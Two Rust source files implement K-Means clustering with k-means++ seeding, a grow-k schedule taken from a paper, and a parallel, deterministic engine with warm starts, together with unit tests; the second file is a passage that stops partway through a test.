#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod metrics;

use rand::Rng;

/// Tuning knobs for Lloyd's algorithm.
#[derive(Debug, Clone)]
pub struct KMeansConfig {
    /// Maximum Lloyd iterations per run.
    pub max_iters: usize,
    /// Convergence threshold on total centroid movement (squared).
    pub tolerance: f32,
}

impl Default for KMeansConfig {
    fn default() -> Self {
        KMeansConfig {
            max_iters: 100,
            tolerance: 1e-6,
        }
    }
}

/// Result of one K-Means run.
#[derive(Debug, Clone)]
pub struct KMeansResult {
    /// Final centroids, `k` of them.
    pub centroids: Vec<Vec<f32>>,
    /// Cluster index per input point.
    pub assignments: Vec<usize>,
    /// Sum of squared distances of points to their centroid.
    pub inertia: f32,
    /// Lloyd iterations executed.
    pub iterations: usize,
}

impl KMeansResult {
    /// Number of clusters.
    pub fn k(&self) -> usize {
        self.centroids.len()
    }

    /// Sizes of each cluster.
    pub fn cluster_sizes(&self) -> Vec<usize> {
        let mut sizes = vec![0usize; self.k()];
        for &a in &self.assignments {
            sizes[a] += 1;
        }
        sizes
    }

    /// Groups point indices by cluster.
    pub fn clusters(&self) -> Vec<Vec<usize>> {
        let mut groups = vec![Vec::new(); self.k()];
        for (i, &a) in self.assignments.iter().enumerate() {
            groups[a].push(i);
        }
        groups
    }
}

fn distance_sq(a: &[f32], b: &[f32]) -> f32 {
    a.iter()
        .zip(b)
        .map(|(x, y)| {
            let d = x - y;
            d * d
        })
        .sum()
}

/// Runs K-Means with k-means++ initialization.
///
/// If `k >= data.len()`, every point becomes its own cluster.
///
/// # Panics
///
/// Panics if `data` is empty, `k == 0`, or points have inconsistent
/// dimensions.
pub fn kmeans<P: AsRef<[f32]>>(
    data: &[P],
    k: usize,
    config: &KMeansConfig,
    rng: &mut impl Rng,
) -> KMeansResult {
    assert!(!data.is_empty(), "cannot cluster an empty dataset");
    assert!(k > 0, "k must be positive");
    let dim = data[0].as_ref().len();
    assert!(
        data.iter().all(|p| p.as_ref().len() == dim),
        "inconsistent point dimensions"
    );
    let k = k.min(data.len());

    let mut centroids = init_plus_plus(data, k, rng);
    let mut assignments = vec![0usize; data.len()];
    let mut iterations = 0;

    for iter in 0..config.max_iters {
        iterations = iter + 1;
        // Assignment step.
        for (i, point) in data.iter().enumerate() {
            let p = point.as_ref();
            let mut best = 0usize;
            let mut best_d = f32::INFINITY;
            for (c, centroid) in centroids.iter().enumerate() {
                let d = distance_sq(p, centroid);
                if d < best_d {
                    best_d = d;
                    best = c;
                }
            }
            assignments[i] = best;
        }
        // Update step.
        let mut sums = vec![vec![0.0f32; dim]; k];
        let mut counts = vec![0usize; k];
        for (i, point) in data.iter().enumerate() {
            let a = assignments[i];
            counts[a] += 1;
            for (s, v) in sums[a].iter_mut().zip(point.as_ref()) {
                *s += v;
            }
        }
        let mut movement = 0.0f32;
        for c in 0..k {
            if counts[c] == 0 {
                // Empty cluster: re-seed on the point farthest from its
                // centroid, the standard fix-up.
                let far = (0..data.len())
                    .max_by(|&a, &b| {
                        let da = distance_sq(data[a].as_ref(), &centroids[assignments[a]]);
                        let db = distance_sq(data[b].as_ref(), &centroids[assignments[b]]);
                        da.total_cmp(&db)
                    })
                    .expect("data non-empty");
                let fresh: Vec<f32> = data[far].as_ref().to_vec();
                movement += distance_sq(&fresh, &centroids[c]);
                centroids[c] = fresh;
                continue;
            }
            let mut fresh = sums[c].clone();
            for v in &mut fresh {
                *v /= counts[c] as f32;
            }
            movement += distance_sq(&fresh, &centroids[c]);
            centroids[c] = fresh;
        }
        if movement <= config.tolerance {
            break;
        }
    }

    // Final assignment against converged centroids.
    let mut inertia = 0.0f32;
    for (i, point) in data.iter().enumerate() {
        let p = point.as_ref();
        let mut best = 0usize;
        let mut best_d = f32::INFINITY;
        for (c, centroid) in centroids.iter().enumerate() {
            let d = distance_sq(p, centroid);
            if d < best_d {
                best_d = d;
                best = c;
            }
        }
        assignments[i] = best;
        inertia += best_d;
    }

    KMeansResult {
        centroids,
        assignments,
        inertia,
        iterations,
    }
}

/// k-means++ seeding: first centroid uniform, then each next centroid
/// sampled proportionally to squared distance from the nearest chosen one.
fn init_plus_plus<P: AsRef<[f32]>>(data: &[P], k: usize, rng: &mut impl Rng) -> Vec<Vec<f32>> {
    let mut centroids: Vec<Vec<f32>> = Vec::with_capacity(k);
    let first = rng.gen_range(0..data.len());
    centroids.push(data[first].as_ref().to_vec());
    let mut dists: Vec<f32> = data
        .iter()
        .map(|p| distance_sq(p.as_ref(), &centroids[0]))
        .collect();
    while centroids.len() < k {
        let total: f32 = dists.iter().sum();
        let chosen = if total <= f32::EPSILON {
            // All points coincide with chosen centroids; pick uniformly.
            rng.gen_range(0..data.len())
        } else {
            let mut target = rng.gen_range(0.0..total);
            let mut idx = 0;
            for (i, &d) in dists.iter().enumerate() {
                if target < d {
                    idx = i;
                    break;
                }
                target -= d;
                idx = i;
            }
            idx
        };
        centroids.push(data[chosen].as_ref().to_vec());
        let last = centroids.last().expect("just pushed");
        for (d, p) in dists.iter_mut().zip(data) {
            *d = d.min(distance_sq(p.as_ref(), last));
        }
    }
    centroids
}

/// Outcome of the paper's grow-k schedule.
#[derive(Debug, Clone)]
pub struct AutoKResult {
    /// The selected clustering.
    pub result: KMeansResult,
    /// Every `k` that was tried, with its inertia, for the ablation bench.
    pub trace: Vec<(usize, f32)>,
}

/// The paper's cluster-count schedule: start at `k = 3` and grow `k`
/// until the *newly formed* clusters stop changing the solution — here
/// measured as the relative inertia improvement dropping below
/// `min_improvement` (default 5%), the standard elbow reading of
/// "centroids of newly formed clusters do not change".
///
/// # Panics
///
/// Panics if `data` is empty (see [`kmeans`]).
pub fn auto_kmeans<P: AsRef<[f32]>>(
    data: &[P],
    config: &KMeansConfig,
    min_improvement: f32,
    max_k: usize,
    rng: &mut impl Rng,
) -> AutoKResult {
    let mut k = 3.min(data.len());
    let mut best = kmeans(data, k, config, rng);
    let mut trace = vec![(k, best.inertia)];
    while k < max_k.min(data.len()) {
        let next = kmeans(data, k + 1, config, rng);
        trace.push((k + 1, next.inertia));
        let improvement = if best.inertia <= f32::EPSILON {
            0.0
        } else {
            (best.inertia - next.inertia) / best.inertia
        };
        if improvement < min_improvement {
            break;
        }
        best = next;
        k += 1;
    }
    AutoKResult {
        result: best,
        trace,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    fn blobs(centers: &[(f32, f32)], per: usize, spread: f32, seed: u64) -> Vec<Vec<f32>> {
        let mut rng = StdRng::seed_from_u64(seed);
        let mut data = Vec::new();
        for &(cx, cy) in centers {
            for _ in 0..per {
                data.push(vec![
                    cx + rng.gen_range(-spread..spread),
                    cy + rng.gen_range(-spread..spread),
                ]);
            }
        }
        data
    }

    #[test]
    fn separates_well_separated_blobs() {
        let data = blobs(&[(0.0, 0.0), (10.0, 10.0), (20.0, 0.0)], 30, 0.5, 1);
        let mut rng = StdRng::seed_from_u64(2);
        let res = kmeans(&data, 3, &KMeansConfig::default(), &mut rng);
        let sizes = res.cluster_sizes();
        assert_eq!(sizes.iter().sum::<usize>(), 90);
        assert!(sizes.iter().all(|&s| s == 30), "sizes {sizes:?}");
    }

    #[test]
    fn inertia_decreases_with_k() {
        let data = blobs(&[(0.0, 0.0), (8.0, 8.0)], 25, 1.0, 3);
        let mut rng = StdRng::seed_from_u64(4);
        let one = kmeans(&data, 1, &KMeansConfig::default(), &mut rng);
        let two = kmeans(&data, 2, &KMeansConfig::default(), &mut rng);
        assert!(two.inertia < one.inertia);
    }

    #[test]
    fn k_equal_n_gives_zero_inertia() {
        let data = blobs(&[(0.0, 0.0)], 5, 1.0, 5);
        let mut rng = StdRng::seed_from_u64(6);
        let res = kmeans(&data, 5, &KMeansConfig::default(), &mut rng);
        assert!(res.inertia < 1e-6);
    }

    #[test]
    fn k_larger_than_n_is_clamped() {
        let data = blobs(&[(0.0, 0.0)], 4, 0.5, 7);
        let mut rng = StdRng::seed_from_u64(8);
        let res = kmeans(&data, 10, &KMeansConfig::default(), &mut rng);
        assert_eq!(res.k(), 4);
    }

    #[test]
    fn identical_points_dont_crash() {
        let data = vec![vec![1.0, 1.0]; 10];
        let mut rng = StdRng::seed_from_u64(9);
        let res = kmeans(&data, 3, &KMeansConfig::default(), &mut rng);
        assert!(res.inertia < 1e-9);
    }

    #[test]
    fn single_point() {
        let data = vec![vec![2.0, 3.0]];
        let mut rng = StdRng::seed_from_u64(10);
        let res = kmeans(&data, 1, &KMeansConfig::default(), &mut rng);
        assert_eq!(res.assignments, vec![0]);
        assert_eq!(res.centroids[0], vec![2.0, 3.0]);
    }

    #[test]
    #[should_panic(expected = "empty")]
    fn empty_data_panics() {
        let data: Vec<Vec<f32>> = vec![];
        let mut rng = StdRng::seed_from_u64(11);
        kmeans(&data, 2, &KMeansConfig::default(), &mut rng);
    }

    #[test]
    #[should_panic(expected = "k must be positive")]
    fn zero_k_panics() {
        let data = vec![vec![0.0]];
        let mut rng = StdRng::seed_from_u64(12);
        kmeans(&data, 0, &KMeansConfig::default(), &mut rng);
    }

    #[test]
    #[should_panic(expected = "inconsistent")]
    fn mismatched_dims_panic() {
        let data = vec![vec![0.0], vec![0.0, 1.0]];
        let mut rng = StdRng::seed_from_u64(13);
        kmeans(&data, 1, &KMeansConfig::default(), &mut rng);
    }

    #[test]
    fn auto_k_finds_roughly_the_right_count() {
        let data = blobs(
            &[(0.0, 0.0), (15.0, 0.0), (0.0, 15.0), (15.0, 15.0), (30.0, 30.0)],
            25,
            0.8,
            14,
        );
        let mut rng = StdRng::seed_from_u64(15);
        // 25% threshold: splitting a true blob only buys ~10% inertia,
        // while recovering a merged blob buys far more.
        let auto = auto_kmeans(&data, &KMeansConfig::default(), 0.25, 20, &mut rng);
        assert!(
            (4..=7).contains(&auto.result.k()),
            "expected ~5 clusters, got {}",
            auto.result.k()
        );
        assert!(auto.trace.len() >= 2);
    }

    #[test]
    fn auto_k_starts_at_three() {
        let data = blobs(&[(0.0, 0.0)], 30, 0.5, 16);
        let mut rng = StdRng::seed_from_u64(17);
        let auto = auto_kmeans(&data, &KMeansConfig::default(), 0.05, 20, &mut rng);
        assert_eq!(auto.trace[0].0, 3, "paper starts the schedule at k=3");
    }

    #[test]
    fn clusters_partition_the_input() {
        let data = blobs(&[(0.0, 0.0), (9.0, 9.0)], 20, 1.0, 18);
        let mut rng = StdRng::seed_from_u64(19);
        let res = kmeans(&data, 2, &KMeansConfig::default(), &mut rng);
        let mut seen: Vec<usize> = res.clusters().into_iter().flatten().collect();
        seen.sort_unstable();
        assert_eq!(seen, (0..40).collect::<Vec<_>>());
    }
}
