//! K-Means clustering, from scratch.
//!
//! The paper clusters package embeddings with scikit-learn's K-Means:
//! "The initial number of clusters is set to 3, and we increase the number
//! of clusters until the centroids of newly formed clusters do not change"
//! (§III-A). This crate reimplements that pipeline around a parallel,
//! deterministic, warm-startable Lloyd engine:
//!
//! * [`kmeans`] — k-means++ seeding + parallel Lloyd iterations;
//! * [`kmeans_warm`] — keeps a previous run's centroids and
//!   k-means++-seeds only the new ones, which is what makes the grow-k
//!   schedule cheap (each step refines instead of restarting);
//! * [`auto_kmeans`] — the paper's grow-k-until-stable schedule;
//! * [`serial`] — the original single-threaded implementation, kept as
//!   the benchmark baseline and differential-test oracle;
//! * [`metrics`] — silhouette score, adjusted Rand index and inertia, used
//!   by the validation tests and the ablation benchmarks.
//!
//! Points are plain `&[f32]` slices so the crate has no dependency on the
//! embedding layer.
//!
//! # Determinism contract
//!
//! [`kmeans`] and [`kmeans_warm`] produce **bitwise identical** results
//! at any [`KMeansConfig::threads`] setting: the engine processes points
//! in fixed-size chunks (boundaries independent of the thread count) and
//! merges per-chunk partial sums in chunk-index order, so the
//! floating-point summation tree — and therefore every centroid,
//! assignment and the inertia — does not depend on scheduling. See
//! `engine.rs` for the full contract; keep it when touching parallelism.
//!
//! # Examples
//!
//! ```
//! use cluster::{kmeans, KMeansConfig};
//! use rand::rngs::StdRng;
//! use rand::SeedableRng;
//!
//! let data = vec![
//!     vec![0.0, 0.0], vec![0.1, 0.0], vec![10.0, 10.0], vec![10.1, 10.0],
//! ];
//! let mut rng = StdRng::seed_from_u64(1);
//! let result = kmeans(&data, 2, &KMeansConfig::default(), &mut rng);
//! assert_eq!(result.assignments[0], result.assignments[1]);
//! assert_ne!(result.assignments[0], result.assignments[2]);
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

mod engine;
pub mod matrix;
pub mod metrics;
pub mod serial;

pub use matrix::{PointMatrix, Points, QuantMatrix, SparsePoints};

use rand::Rng;

/// Which assignment kernel the Lloyd engine runs.
///
/// All three produce **bitwise identical** results — they share one
/// summation order and one candidate-scan order, and the quantized
/// screen only skips candidates provably unable to win (see
/// `engine.rs`). The enum exists so benchmarks and the equivalence
/// suite can pit them against each other; production callers keep the
/// default.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum Kernel {
    /// The seed engine's straight loop over dense rows — baseline and
    /// bitwise reference.
    DenseScalar,
    /// Cache-tiled point×centroid loop over sparse exact dots.
    Tiled,
    /// [`Kernel::Tiled`] plus the certified i8 screen in front of every
    /// exact distance.
    #[default]
    TiledQuantized,
}

/// Tuning knobs for Lloyd's algorithm.
#[derive(Debug, Clone)]
pub struct KMeansConfig {
    /// Maximum Lloyd iterations per run.
    pub max_iters: usize,
    /// Convergence threshold on total centroid movement (squared).
    pub tolerance: f32,
    /// Worker threads for the assignment/accumulation passes; `0` means
    /// `available_parallelism`. Any value yields bitwise identical
    /// results (see the crate-level determinism contract).
    pub threads: usize,
    /// Points per work chunk of the parallel passes. Changing it changes
    /// the floating-point summation grouping (legitimately different
    /// rounding); changing [`KMeansConfig::threads`] never does, because
    /// chunk boundaries are independent of the thread count.
    pub chunk: usize,
    /// Assignment kernel. Every variant is bitwise-equivalent; see
    /// [`Kernel`].
    pub kernel: Kernel,
}

impl Default for KMeansConfig {
    fn default() -> Self {
        KMeansConfig {
            max_iters: 100,
            tolerance: 1e-6,
            threads: 0,
            chunk: engine::DEFAULT_CHUNK,
            kernel: Kernel::default(),
        }
    }
}

/// Result of one K-Means run.
#[derive(Debug, Clone)]
pub struct KMeansResult {
    /// Final centroids, `k` of them.
    pub centroids: Vec<Vec<f32>>,
    /// Cluster index per input point.
    pub assignments: Vec<usize>,
    /// Sum of squared distances of points to their centroid.
    pub inertia: f32,
    /// Lloyd iterations executed.
    pub iterations: usize,
}

impl KMeansResult {
    /// Number of clusters.
    pub fn k(&self) -> usize {
        self.centroids.len()
    }

    /// Sizes of each cluster.
    pub fn cluster_sizes(&self) -> Vec<usize> {
        let mut sizes = vec![0usize; self.k()];
        for &a in &self.assignments {
            sizes[a] += 1;
        }
        sizes
    }

    /// Groups point indices by cluster.
    pub fn clusters(&self) -> Vec<Vec<usize>> {
        let mut groups = vec![Vec::new(); self.k()];
        for (i, &a) in self.assignments.iter().enumerate() {
            groups[a].push(i);
        }
        groups
    }
}

/// Runs K-Means with k-means++ initialization on the parallel engine.
///
/// If `k >= data.len()`, every point becomes its own cluster.
///
/// # Panics
///
/// Panics if `data` is empty, `k == 0`, or points have inconsistent
/// dimensions.
pub fn kmeans<P: AsRef<[f32]>>(
    data: &[P],
    k: usize,
    config: &KMeansConfig,
    rng: &mut impl Rng,
) -> KMeansResult {
    kmeans_points(&Points::from_dense_rows(data), k, config, rng)
}

/// [`kmeans`] over a pre-built [`Points`] structure — the layout is
/// built once and shared across the grow-k schedule instead of being
/// re-derived per run.
///
/// # Panics
///
/// Panics if `k == 0`.
pub fn kmeans_points(
    points: &Points,
    k: usize,
    config: &KMeansConfig,
    rng: &mut impl Rng,
) -> KMeansResult {
    assert!(k > 0, "k must be positive");
    let k = k.min(points.n());
    let centroids = seed_plus_plus(points.matrix(), Vec::new(), k, rng);
    engine::lloyd(points, centroids, config)
}

/// Runs K-Means warm-started from a previous run's centroids, adding
/// `extra_k` freshly k-means++-seeded clusters.
///
/// The kept centroids are already near their basins, so Lloyd typically
/// converges in a handful of iterations — this is what turns the grow-k
/// schedule from "restart from scratch at every k" into incremental
/// refinement. The total `prev_centroids.len() + extra_k` is clamped to
/// `data.len()`.
///
/// # Panics
///
/// Panics if `data` is empty, `prev_centroids.len() + extra_k == 0`, or
/// any point/centroid dimension is inconsistent.
pub fn kmeans_warm<P: AsRef<[f32]>>(
    data: &[P],
    prev_centroids: &[Vec<f32>],
    extra_k: usize,
    config: &KMeansConfig,
    rng: &mut impl Rng,
) -> KMeansResult {
    kmeans_warm_points(
        &Points::from_dense_rows(data),
        prev_centroids,
        extra_k,
        config,
        rng,
    )
}

/// [`kmeans_warm`] over a pre-built [`Points`] structure.
///
/// # Panics
///
/// Panics if `prev_centroids.len() + extra_k == 0` or any centroid
/// dimension is inconsistent with the points.
pub fn kmeans_warm_points(
    points: &Points,
    prev_centroids: &[Vec<f32>],
    extra_k: usize,
    config: &KMeansConfig,
    rng: &mut impl Rng,
) -> KMeansResult {
    assert!(
        !prev_centroids.is_empty() || extra_k > 0,
        "k must be positive"
    );
    assert!(
        prev_centroids.iter().all(|c| c.len() == points.dim()),
        "inconsistent point dimensions"
    );
    let k = (prev_centroids.len() + extra_k).min(points.n());
    let mut centroids: Vec<Vec<f32>> = prev_centroids.iter().take(k).cloned().collect();
    obs::counter_add("kmeans.warm_starts", 1);
    obs::counter_add("kmeans.warm_kept_centroids", centroids.len() as u64);
    if centroids.len() < k {
        centroids = seed_plus_plus(points.matrix(), centroids, k, rng);
    }
    engine::lloyd(points, centroids, config)
}

/// k-means++ seeding, continuing from `existing` centroids (empty for a
/// cold start): the first missing centroid is uniform (cold) or sampled
/// against the existing ones (warm), then each next centroid is sampled
/// proportionally to squared distance from the nearest chosen one.
fn seed_plus_plus(
    points: &PointMatrix,
    existing: Vec<Vec<f32>>,
    k: usize,
    rng: &mut impl Rng,
) -> Vec<Vec<f32>> {
    let n = points.n();
    let mut centroids = existing;
    let mut dists: Vec<f32>;
    if centroids.is_empty() {
        let first = rng.gen_range(0..n);
        centroids.push(points.row(first).to_vec());
        dists = (0..n)
            .map(|i| engine::distance_sq(points.row(i), &centroids[0]))
            .collect();
    } else {
        dists = (0..n)
            .map(|i| {
                centroids
                    .iter()
                    .map(|c| engine::distance_sq(points.row(i), c))
                    .fold(f32::INFINITY, f32::min)
            })
            .collect();
    }
    while centroids.len() < k {
        let total: f32 = dists.iter().sum();
        let chosen = if total <= f32::EPSILON {
            // All points coincide with chosen centroids; pick uniformly.
            rng.gen_range(0..n)
        } else {
            let mut target = rng.gen_range(0.0..total);
            let mut idx = 0;
            for (i, &d) in dists.iter().enumerate() {
                if target < d {
                    idx = i;
                    break;
                }
                target -= d;
                idx = i;
            }
            idx
        };
        centroids.push(points.row(chosen).to_vec());
        let last = centroids.last().expect("just pushed");
        for (i, d) in dists.iter_mut().enumerate() {
            *d = d.min(engine::distance_sq(points.row(i), last));
        }
    }
    centroids
}

/// Outcome of the paper's grow-k schedule.
#[derive(Debug, Clone)]
pub struct AutoKResult {
    /// The selected clustering.
    pub result: KMeansResult,
    /// Every `k` that was tried, with its inertia, for the ablation bench.
    pub trace: Vec<(usize, f32)>,
}

/// The paper's cluster-count schedule: start at `k = 3` and grow `k`
/// until the *newly formed* clusters stop changing the solution — here
/// measured as the relative inertia improvement dropping below
/// `min_improvement` (default 5%), the standard elbow reading of
/// "centroids of newly formed clusters do not change".
///
/// # Panics
///
/// Panics if `data` is empty (see [`kmeans`]).
pub fn auto_kmeans<P: AsRef<[f32]>>(
    data: &[P],
    config: &KMeansConfig,
    min_improvement: f32,
    max_k: usize,
    rng: &mut impl Rng,
) -> AutoKResult {
    let mut k = 3.min(data.len());
    let mut best = kmeans(data, k, config, rng);
    let mut trace = vec![(k, best.inertia)];
    while k < max_k.min(data.len()) {
        let next = kmeans(data, k + 1, config, rng);
        trace.push((k + 1, next.inertia));
        let improvement = if best.inertia <= f32::EPSILON {
            0.0
        } else {
            (best.inertia - next.inertia) / best.inertia
        };
        if improvement < min_improvement {
            break;
        }
        best = next;
        k += 1;
    }
    AutoKResult {
        result: best,
        trace,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    fn blobs(centers: &[(f32, f32)], per: usize, spread: f32, seed: u64) -> Vec<Vec<f32>> {
        let mut rng = StdRng::seed_from_u64(seed);
        let mut data = Vec::new();
        for &(cx, cy) in centers {
            for _ in 0..per {
                data.push(vec![
                    cx + rng.gen_range(-spread..spread),
                    cy + rng.gen_range(-spread..spread),
                ]);
            }
        }
        data
    }

    fn with_threads(threads: usize) -> KMeansConfig {
        KMeansConfig {
            threads,
            ..KMeansConfig::default()
        }
    }

    #[test]
    fn separates_well_separated_blobs() {
        let data = blobs(&[(0.0, 0.0), (10.0, 10.0), (20.0, 0.0)], 30, 0.5, 1);
        let mut rng = StdRng::seed_from_u64(2);
        let res = kmeans(&data, 3, &KMeansConfig::default(), &mut rng);
        let sizes = res.cluster_sizes();
        assert_eq!(sizes.iter().sum::<usize>(), 90);
        assert!(sizes.iter().all(|&s| s == 30), "sizes {sizes:?}");
    }

    #[test]
    fn inertia_decreases_with_k() {
        let data = blobs(&[(0.0, 0.0), (8.0, 8.0)], 25, 1.0, 3);
        let mut rng = StdRng::seed_from_u64(4);
        let one = kmeans(&data, 1, &KMeansConfig::default(), &mut rng);
        let two = kmeans(&data, 2, &KMeansConfig::default(), &mut rng);
        assert!(two.inertia < one.inertia);
    }

    #[test]
    fn k_equal_n_gives_zero_inertia() {
        let data = blobs(&[(0.0, 0.0)], 5, 1.0, 5);
        let mut rng = StdRng::seed_from_u64(6);
        let res = kmeans(&data, 5, &KMeansConfig::default(), &mut rng);
        assert!(res.inertia < 1e-6);
    }

    #[test]
    fn k_larger_than_n_is_clamped() {
        let data = blobs(&[(0.0, 0.0)], 4, 0.5, 7);
        let mut rng = StdRng::seed_from_u64(8);
        let res = kmeans(&data, 10, &KMeansConfig::default(), &mut rng);
        assert_eq!(res.k(), 4);
    }

    #[test]
    fn identical_points_dont_crash() {
        let data = vec![vec![1.0, 1.0]; 10];
        let mut rng = StdRng::seed_from_u64(9);
        let res = kmeans(&data, 3, &KMeansConfig::default(), &mut rng);
        assert!(res.inertia < 1e-9);
    }

    #[test]
    fn single_point() {
        let data = vec![vec![2.0, 3.0]];
        let mut rng = StdRng::seed_from_u64(10);
        let res = kmeans(&data, 1, &KMeansConfig::default(), &mut rng);
        assert_eq!(res.assignments, vec![0]);
        assert_eq!(res.centroids[0], vec![2.0, 3.0]);
    }

    #[test]
    #[should_panic(expected = "empty")]
    fn empty_data_panics() {
        let data: Vec<Vec<f32>> = vec![];
        let mut rng = StdRng::seed_from_u64(11);
        kmeans(&data, 2, &KMeansConfig::default(), &mut rng);
    }

    #[test]
    #[should_panic(expected = "k must be positive")]
    fn zero_k_panics() {
        let data = vec![vec![0.0]];
        let mut rng = StdRng::seed_from_u64(12);
        kmeans(&data, 0, &KMeansConfig::default(), &mut rng);
    }

    #[test]
    #[should_panic(expected = "inconsistent")]
    fn mismatched_dims_panic() {
        let data = vec![vec![0.0], vec![0.0, 1.0]];
        let mut rng = StdRng::seed_from_u64(13);
        kmeans(&data, 1, &KMeansConfig::default(), &mut rng);
    }

    #[test]
    fn auto_k_finds_roughly_the_right_count() {
        let data = blobs(
            &[(0.0, 0.0), (15.0, 0.0), (0.0, 15.0), (15.0, 15.0), (30.0, 30.0)],
            25,
            0.8,
            14,
        );
        let mut rng = StdRng::seed_from_u64(15);
        // 25% threshold: splitting a true blob only buys ~10% inertia,
        // while recovering a merged blob buys far more.
        let auto = auto_kmeans(&data, &KMeansConfig::default(), 0.25, 20, &mut rng);
        assert!(
            (4..=7).contains(&auto.result.k()),
            "expected ~5 clusters, got {}",
            auto.result.k()
        );
        assert!(auto.trace.len() >= 2);
    }

    #[test]
    fn auto_k_starts_at_three() {
        let data = blobs(&[(0.0, 0.0)], 30, 0.5, 16);
        let mut rng = StdRng::seed_from_u64(17);
        let auto = auto_kmeans(&data, &KMeansConfig::default(), 0.05, 20, &mut rng);
        assert_eq!(auto.trace[0].0, 3, "paper starts the schedule at k=3");
    }

    #[test]
    fn clusters_partition_the_input() {
        let data = blobs(&[(0.0, 0.0), (9.0, 9.0)], 20, 1.0, 18);
        let mut rng = StdRng::seed_from_u64(19);
        let res = kmeans(&data, 2, &KMeansConfig::default(), &mut rng);
        let mut seen: Vec<usize> = res.clusters().into_iter().flatten().collect();
        seen.sort_unstable();
        assert_eq!(seen, (0..40).collect::<Vec<_>>());
    }

    /// Random unclustered data: the hardest case for bitwise equality,
    /// because near-ties abound. The determinism contract demands exact
    /// bit equality of assignments, centroids and inertia across thread
    /// counts.
    #[test]
    fn thread_count_does_not_change_bits() {
        let mut rng = StdRng::seed_from_u64(20);
        let data: Vec<Vec<f32>> = (0..2500)
            .map(|_| (0..16).map(|_| rng.gen_range(-1.0f32..1.0)).collect())
            .collect();
        let run = |threads: usize| {
            let mut rng = StdRng::seed_from_u64(21);
            kmeans(&data, 7, &with_threads(threads), &mut rng)
        };
        let one = run(1);
        for threads in [2, 3, 5, 8] {
            let many = run(threads);
            assert_eq!(one.assignments, many.assignments, "threads={threads}");
            assert_eq!(
                one.inertia.to_bits(),
                many.inertia.to_bits(),
                "threads={threads}"
            );
            for (a, b) in one.centroids.iter().zip(&many.centroids) {
                let (ab, bb): (Vec<u32>, Vec<u32>) = (
                    a.iter().map(|v| v.to_bits()).collect(),
                    b.iter().map(|v| v.to_bits()).collect(),
                );
                assert_eq!(ab, bb, "threads={threads}");
            }
            assert_eq!(one.iterations, many.iterations, "threads={threads}");
        }
    }

    /// All three assignment kernels on near-tie-riddled sparse data:
    /// the kernel choice must never leak into a single output bit.
    #[test]
    fn kernels_agree_bitwise() {
        let mut rng = StdRng::seed_from_u64(33);
        let data: Vec<Vec<f32>> = (0..600)
            .map(|_| {
                (0..48)
                    .map(|_| {
                        if rng.gen_bool(0.3) {
                            rng.gen_range(-1.0f32..1.0)
                        } else {
                            0.0
                        }
                    })
                    .collect()
            })
            .collect();
        let run = |kernel: Kernel| {
            let mut rng = StdRng::seed_from_u64(34);
            let config = KMeansConfig {
                kernel,
                ..KMeansConfig::default()
            };
            kmeans(&data, 9, &config, &mut rng)
        };
        let reference = run(Kernel::DenseScalar);
        for kernel in [Kernel::Tiled, Kernel::TiledQuantized] {
            let other = run(kernel);
            assert_eq!(reference.assignments, other.assignments, "{kernel:?}");
            assert_eq!(
                reference.inertia.to_bits(),
                other.inertia.to_bits(),
                "{kernel:?}"
            );
            assert_eq!(reference.iterations, other.iterations, "{kernel:?}");
            for (a, b) in reference.centroids.iter().zip(&other.centroids) {
                let (ab, bb): (Vec<u32>, Vec<u32>) = (
                    a.iter().map(|v| v.to_bits()).collect(),
                    b.iter().map(|v| v.to_bits()).collect(),
                );
                assert_eq!(ab, bb, "{kernel:?}");
            }
        }
    }

    /// Warm-starting with a hopeless extra centroid exercises the
    /// empty-cluster re-seed: the far centroid captures nothing on the
    /// first pass and must be re-seeded onto a real point.
    #[test]
    fn empty_cluster_is_reseeded() {
        let data = blobs(&[(0.0, 0.0), (5.0, 5.0)], 20, 0.5, 22);
        let prev = vec![vec![0.0, 0.0], vec![5.0, 5.0], vec![1.0e6, 1.0e6]];
        let mut rng = StdRng::seed_from_u64(23);
        let res = kmeans_warm(&data, &prev, 0, &KMeansConfig::default(), &mut rng);
        assert_eq!(res.k(), 3);
        assert!(res.inertia.is_finite());
        assert!(
            res.cluster_sizes().iter().all(|&s| s > 0),
            "re-seed must put every cluster to work: {:?}",
            res.cluster_sizes()
        );
    }

    #[test]
    fn warm_start_keeps_and_extends_centroids() {
        let data = blobs(
            &[(0.0, 0.0), (12.0, 0.0), (0.0, 12.0), (12.0, 12.0)],
            25,
            0.5,
            24,
        );
        let mut rng = StdRng::seed_from_u64(25);
        let coarse = kmeans(&data, 2, &KMeansConfig::default(), &mut rng);
        let fine = kmeans_warm(&data, &coarse.centroids, 2, &KMeansConfig::default(), &mut rng);
        assert_eq!(fine.k(), 4);
        assert!(
            fine.inertia < coarse.inertia / 2.0,
            "extra centroids must recover merged blobs: {} vs {}",
            fine.inertia,
            coarse.inertia
        );
        let sizes = fine.cluster_sizes();
        assert!(sizes.iter().all(|&s| s == 25), "sizes {sizes:?}");
    }

    #[test]
    fn warm_start_with_k_beyond_n_is_clamped() {
        let data = blobs(&[(0.0, 0.0)], 4, 0.5, 26);
        let prev = vec![vec![0.0, 0.0], vec![1.0, 1.0]];
        let mut rng = StdRng::seed_from_u64(27);
        let res = kmeans_warm(&data, &prev, 10, &KMeansConfig::default(), &mut rng);
        assert_eq!(res.k(), 4);
    }

    #[test]
    fn warm_start_on_identical_points() {
        let data = vec![vec![3.0, 3.0]; 8];
        let prev = vec![vec![3.0, 3.0]];
        let mut rng = StdRng::seed_from_u64(28);
        let res = kmeans_warm(&data, &prev, 2, &KMeansConfig::default(), &mut rng);
        assert!(res.inertia < 1e-9);
        assert_eq!(res.assignments.len(), 8);
    }

    /// The parallel engine against the retained seed implementation on
    /// well-separated data: same partition, same inertia (the engines
    /// use different but mathematically equal distance formulas, so the
    /// comparison allows float slack).
    #[test]
    fn engine_matches_serial_reference_on_blobs() {
        let data = blobs(&[(0.0, 0.0), (20.0, 0.0), (0.0, 20.0)], 40, 0.8, 29);
        let mut rng_a = StdRng::seed_from_u64(30);
        let mut rng_b = StdRng::seed_from_u64(30);
        let fast = kmeans(&data, 3, &KMeansConfig::default(), &mut rng_a);
        let reference = serial::kmeans(&data, 3, &KMeansConfig::default(), &mut rng_b);
        assert_eq!(fast.assignments, reference.assignments);
